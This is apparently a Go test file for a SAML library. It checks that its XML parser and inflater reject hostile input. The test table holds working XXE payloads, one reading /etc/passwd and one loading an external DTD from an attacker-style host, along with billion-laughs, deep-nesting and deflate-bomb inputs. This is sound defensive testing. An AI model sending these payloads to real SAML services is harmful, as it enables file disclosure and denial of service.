package saml

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"runtime"
	"strings"
	"testing"
	"time"
)

// billionLaughs is Keycloak's testXMLBombAttackResistance shape.
func billionLaughs() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE samlp:AuthnRequest [<!ENTITY lol "lol">`)
	prev := "lol"
	for i := 1; i <= 9; i++ {
		name := fmt.Sprintf("lol%d", i)
		fmt.Fprintf(&b, `<!ENTITY %s "%s">`, name, strings.Repeat("&"+prev+";", 10))
		prev = name
	}
	b.WriteString(`]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2024-01-01T00:00:00Z"><saml:Issuer>&lol9;</saml:Issuer></samlp:AuthnRequest>`)
	return b.String()
}

func nested(tag string, n int) string {
	return strings.Repeat("<"+tag+">", n) + strings.Repeat("</"+tag+">", n)
}

// unsafeXML are the XML-01, XML-02, XML-05, XML-06 and XML-07 vectors.
var unsafeXML = []struct {
	name string
	doc  string
	want error
}{
	{"xxe file", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Issuer>&x;</saml:Issuer></r>`, ErrUnsafeXML},
	{"oob parameter entity", `<!DOCTYPE r [<!ENTITY % sp SYSTEM "http://canary.invalid/attacker.dtd">%sp;]><r/>`, ErrUnsafeXML},
	{"entity in attribute", `<!DOCTYPE r [<!ENTITY heh "x">]><r ID="&heh;"/>`, ErrUnsafeXML},
	{"plain doctype", `<!DOCTYPE r><r/>`, ErrUnsafeXML},
	{"doctype after decl", `<?xml version="1.0"?>` + "\n" + `<!DOCTYPE r SYSTEM "http://canary.invalid/x.dtd"><r/>`, ErrUnsafeXML},
	{"billion laughs", billionLaughs(), ErrUnsafeXML},
	{"undeclared entity", `<r>&x;</r>`, ErrMalformed},
	{"directive inside", `<Root><! <<!-- -->!-- x --> y></Root>`, ErrUnsafeXML},
	{"processing instruction", `<r><?php evil()?></r>`, ErrUnsafeXML},
	{"stylesheet PI", `<?xml-stylesheet href="x"?><r/>`, ErrUnsafeXML},
	{"utf-16 declared", `<?xml version="1.0" encoding="UTF-16"?><r/>`, ErrMalformed},
	{"deep nesting 100000", nested("a", 100000), ErrUnsafeXML},
	{"deep nesting 5000 in Extensions", `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><samlp:Extensions>` + nested("x", 5000) + `</samlp:Extensions></samlp:AuthnRequest>`, ErrUnsafeXML},
	{"depth 65", nested("a", MaxDepth+1), ErrUnsafeXML},
	{"namespace amplification", func() string {
		var b strings.Builder
		for i := range 100 {
			b.WriteString("<e")
			for j := range 100 {
				fmt.Fprintf(&b, ` xmlns:p%d_%d="urn:x:%d"`, i, j, j)
			}
			b.WriteString(">")
		}
		return b.String() + strings.Repeat("</e>", 100)
	}(), ErrUnsafeXML},
	{"too many tokens", "<r>" + strings.Repeat("<a/>", MaxTokens) + "</r>", ErrUnsafeXML},
	{"colon attr ::attr", `<Root ::attr="x"></Root>`, nil},
	{"colon attr :=", `<Root :="value"/>`, nil},
	{"colon attr x:=", `<Root x:="value"/>`, nil},
	{"xmlns colon", `<Root xmlns="x" xmlns:="y"></Root>`, nil},
	{"element x::Root", `<x::Root/>`, nil},
	{"element ::Element", `<Root><x::Element></::Element></Root>`, nil},
	{"element x:", `<x:>`, nil},
	{"end x:", `<Root></x:>`, nil},
	{"two roots", `<a/><b/>`, ErrMalformed},
	{"text after root", `<a/>junk`, ErrMalformed},
	{"unclosed", `<a><b></b>`, ErrMalformed},
	{"empty", ``, ErrMalformed},
	{"whitespace", "  \n ", ErrMalformed},
	{"invalid utf-8", "<a>\xff</a>", ErrMalformed},
	{"NUL", "<a>\x00</a>", ErrMalformed},
}

func TestParseUntrustedRefuses(t *testing.T) {
	for _, tc := range unsafeXML {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			doc, err := ParseUntrusted([]byte(tc.doc), 2<<20)
			if err == nil {
				t.Fatalf("accepted: %v", doc.Root().Tag)
			}
			if tc.want != nil && !errors.Is(err, tc.want) {
				t.Errorf("error %v, want %v", err, tc.want)
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("took %s", d)
			}
		})
	}
}

func TestParseUntrustedAccepts(t *testing.T) {
	for _, doc := range []string{
		`<r/>`,
		`<?xml version="1.0" encoding="UTF-8"?>` + "\n<r a=\"1\"><!-- comment --><b>x &amp; y &lt; &#x41;</b></r>\n",
		`<?xml version="1.0" encoding="utf-8"?><r><![CDATA[<!DOCTYPE x>]]></r>`,
		nested("a", MaxDepth),
		string(reqSpec{}.xml()),
	} {
		if _, err := ParseUntrusted([]byte(doc), 1<<20); err != nil {
			t.Errorf("%.60q: %v", doc, err)
		}
	}
}

func TestParseUntrustedSize(t *testing.T) {
	doc := []byte("<r>" + strings.Repeat("a", 1000) + "</r>")
	if _, err := ParseUntrusted(doc, 100); !errors.Is(err, ErrTooLarge) {
		t.Errorf("oversized: %v", err)
	}
	if _, err := ParseUntrusted(doc, 0); !errors.Is(err, ErrTooLarge) {
		t.Errorf("zero limit: %v", err)
	}
	if _, err := ParseUntrusted(doc, len(doc)); err != nil {
		t.Errorf("at limit: %v", err)
	}
}

// deflateBomb compresses n bytes of prefix followed by 'a's.
func deflateBomb(t testing.TB, prefix string, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write([]byte(prefix))
	chunk := bytes.Repeat([]byte("a"), 1<<20)
	for written := 0; written < n; written += len(chunk) {
		w.Write(chunk)
	}
	w.Close()
	return buf.Bytes()
}

func TestInflateBomb(t *testing.T) {
	// crewjam's regression vector is 768 MiB; 32 MiB has the same shape and
	// keeps the test fast. The cap stops inflation after MaxMessageBytes.
	bomb := deflateBomb(t, "", 32<<20)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	if _, err := Inflate(bomb, MaxMessageBytes); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("bomb: %v", err)
	}
	runtime.ReadMemStats(&after)
	if d := time.Since(start); d > time.Second {
		t.Errorf("took %s", d)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 16<<20 {
		t.Errorf("allocated %d MiB", grew>>20)
	}
	// Through the Redirect binding, with valid XML around a huge text node.
	// (32 MiB is the most that still fits the query-size cap once deflated.)
	xmlBomb := deflateBomb(t, `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><x>`, 32<<20)
	q := "SAMLRequest=" + url.QueryEscape(base64.StdEncoding.EncodeToString(xmlBomb))
	if len(q) > MaxRedirectQueryBytes {
		t.Fatalf("bomb query of %d bytes does not reach the inflater", len(q))
	}
	if _, err := ParseAuthnRequestRedirect(q); !errors.Is(err, ErrTooLarge) {
		t.Errorf("redirect bomb: %v", err)
	}
	if _, err := ParseLogoutRequestRedirect(q); !errors.Is(err, ErrTooLarge) {
		t.Errorf("logout redirect bomb: %v", err)
	}
	if _, err := Inflate([]byte("not deflate at all \xff\xff"), 1024); err == nil {
		t.Error("garbage inflated")
	}
}

func TestDecodeBase64(t *testing.T) {
	enc := base64.StdEncoding.EncodeToString([]byte("hello world!!"))
	for _, in := range []string{enc, strings.TrimRight(enc, "="), enc[:8] + "\r\n" + enc[8:], " " + enc + "\n"} {
		if b, err := DecodeBase64(in, 100); err != nil || string(b) != "hello world!!" {
			t.Errorf("%q: %q %v", in, b, err)
		}
	}
	if _, err := DecodeBase64(enc, 5); !errors.Is(err, ErrTooLarge) {
		t.Errorf("over cap: %v", err)
	}
	if _, err := DecodeBase64(strings.Repeat("A", 10<<20), 1024); !errors.Is(err, ErrTooLarge) {
		t.Errorf("huge: %v", err)
	}
	if _, err := DecodeBase64("!!!!", 100); !errors.Is(err, ErrMalformed) {
		t.Errorf("garbage: %v", err)
	}
}
